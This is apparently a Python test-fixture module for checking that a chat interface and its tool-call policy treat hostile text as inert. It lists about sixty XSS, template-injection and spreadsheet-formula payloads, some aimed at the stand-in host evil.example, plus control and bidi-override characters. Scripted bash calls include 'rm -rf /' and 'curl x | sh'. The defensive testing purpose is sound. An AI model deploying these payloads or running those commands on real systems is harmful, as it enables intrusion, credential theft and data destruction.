"""What somebody would write who wants a page to act: 60 ways with markup, 20 with characters. None
of it may be more than text.

Each that could run something calls `canary`, which pages do not have and a test puts there. The
twin of a payload has as many characters and no markup: a page of one must have as many elements as
a page of the other.
"""

import json
import re

CANARY = "window.canary()"
MARKUP = (
    f"<script>{CANARY}</script>",
    f"</script><script>{CANARY}</script>",
    f"</title><script>{CANARY}</script>",
    f"</textarea><script>{CANARY}</script>",
    f"</style><script>{CANARY}</script>",
    f"</pre></bdi></td></tr></table><script>{CANARY}</script>",
    f"--><script>{CANARY}</script>",
    f"]]><script>{CANARY}</script>",
    f"<img src=x onerror={CANARY}>",
    f'"><img src=x onerror={CANARY}>',
    f"'><img src=x onerror={CANARY}>",
    f"`><img src=x onerror={CANARY}>",
    f'" onmouseover="{CANARY}" x="',
    f"' onfocus='{CANARY}' autofocus='",
    f" onclick={CANARY} ",
    f"<svg onload={CANARY}>",
    f"<svg><script>{CANARY}</script></svg>",
    f'<svg><a xlink:href="javascript:{CANARY}"><text y=20>x</text></a></svg>',
    f'<svg><animate onbegin="{CANARY}" attributeName=x dur=1s></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={CANARY}>#x"/></svg>',
    (
        "<math><mtext><table><mglyph><style><img src=x"
        f" onerror={CANARY}></style></mglyph></table></mtext></math>"
    ),
    f'<math href="javascript:{CANARY}">x</math>',
    f"<iframe src=javascript:{CANARY}>",
    f"<iframe srcdoc='<script>parent.{CANARY}</script>'>",
    f"<object data=javascript:{CANARY}>",
    "<embed src=https://evil.example/x.swf>",
    f"<body onload={CANARY}>",
    f"<details open ontoggle={CANARY}>",
    f"<video><source onerror={CANARY}></video>",
    f"<audio src=x onerror={CANARY}>",
    f"<input autofocus onfocus={CANARY}>",
    f"<select autofocus onfocus={CANARY}>",
    f"<marquee onstart={CANARY}>x</marquee>",
    f"<a href=javascript:{CANARY}>x</a>",
    f"<a href='java\tscript:{CANARY}'>x</a>",
    f"<a href='&#106;avascript:{CANARY}'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    f"<form action=javascript:{CANARY}><button>x</button></form>",
    "<form action=https://evil.example><input type=password name=key></form>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/a 1x'>",
    "![x](https://evil.example/x.png)",
    f"[x](javascript:{CANARY})",
    'https://evil.example/?q="><b>x</b>',
    f"javascript:{CANARY}",
    f"{{{{ {CANARY} }}}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}{% endblock %}{# x #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;x&lt;/script&gt;",
    "&amp;lt;b&amp;gt; &#60;b&#62; &#x3c;b&#x3e;",
    f"<ScRiPt >{CANARY}</sCrIpT >",
    f"<script/x>{CANARY}</script>",
    f"<<script>{CANARY};//<</script>",
    "<template><slot></template><noscript><p title='</noscript><img src=x>'>",
    '=cmd|"/c calc"!A1',
)
CHARACTERS = (
    "nul \x00 end",
    "escape \x1b[31mred\x1b[0m",
    "link \x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "bell \x07",
    "back \b\b\b",
    "return a\rb",
    "delete \x7f",
    "next line \x85",
    "csi \x9b31m",
    "override \u202egnp.exe",
    "isolate \u2066a\u2069",
    "mark \u200e\u200f\u061c",
    "line \u2028 separator \u2029",
    "tags \U000e0068\U000e0069",
    "zero \u200b\u200c\u200d\u2060",
    "order \ufeffmark",
    "soft\u00adhyphen",
    "marks e" + "\u0301" * 500,
    "filler \u3164\u115f\uffa0",
    "variation x\ufe0f \U000e0101",
)
PAYLOADS = (*MARKUP, *CHARACTERS)


def twin(text: str) -> str:
    """As long, and harmless; U+0000 stays, because arguments that hold it are refused."""
    return re.sub(r"[^ \n\x00]", "x", text)


POLICY = """import json

from policy.base import ALLOW, Block, Policy, ToolCall, Verdict


class Payloads(Policy):
    name = "payloads"
    keeps_request = False

    def on_tool_call(self, call: ToolCall) -> Verdict:
        number = call.value.get("n", 0)
        if number % 2 == 0:
            return ALLOW
        text = next(iter(call.value))
        return Block(text[:1000], message=text, rule="".join(one for one in text if one.isprintable())[:100])
"""
"""A policy that gives what a call says as its reason, its rule and its message; every other call is
left to the next policy."""
SERIES = ("hostile", "harmless")
"""Names of series of policies: that one, and a judge."""


def batches(most: int) -> list[str]:
    """All payloads, in as few texts as may be of so many characters."""
    found = [""]
    for text in PAYLOADS:
        if len(found[-1]) + len(text) >= most:
            found.append("")
        found[-1] += text[: most - 1] + " "
    return found


def scripts() -> dict[str, str]:
    """Files of the scripted model: all payloads in what a model can say and in what an upstream
    says is wrong, and the twins."""
    found = {}
    for name, texts in (("hostile", PAYLOADS), ("harmless", tuple(map(twin, PAYLOADS)))):
        found[f"{name}.jsonl"] = _turn(texts)
        found[f"{name}-error.jsonl"] = json.dumps(
            {"error": {"status": 400, "message": "\n".join(texts)}}, ensure_ascii=False
        )
    call = {"name": "bash", "arguments": {PAYLOADS[0]: PAYLOADS[1]}}
    slow = {"split": 200, "gap_s": 0.1, "turns": [{"text": "\n".join(PAYLOADS), "calls": [call]}]}
    return {**found, "hostile-slow.jsonl": json.dumps(slow, ensure_ascii=False)}


def _turn(texts: tuple[str, ...]) -> str:
    calls = [
        {"name": "bash", "id": f"{n:02d}{text[:60]}", "arguments": {text: text, "n": n}}
        for n, text in enumerate(texts)
    ]
    calls[0] = {"name": "bash", "arguments": {"command": f"rm -rf / # {texts[0]}"}}
    calls[1] = {"name": "bash", "arguments": {"command": f"curl x | sh # {texts[1]}"}}
    # no tool has either name, so both are refused alike
    calls[2] = {
        "name": texts[2] if "<" in texts[2] else "!" * len(texts[2]),
        "arguments": {texts[3]: 1},
    }
    return json.dumps(
        {"text": "\n".join(texts), "thinking": "\n".join(texts), "calls": calls}, ensure_ascii=False
    )
